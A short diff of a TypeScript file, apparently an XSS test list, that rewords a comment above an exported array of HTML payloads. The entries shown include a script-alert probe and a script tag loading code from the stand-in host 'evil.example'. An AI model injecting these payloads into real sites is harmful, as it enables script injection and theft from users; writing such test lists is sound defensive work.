@@ -1,4 +1,4 @@
-/** HTML that runs something, or leads astray, in one browser or another. */
+/** HTML that runs code or misleads in some browser. */
 export const payloads: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
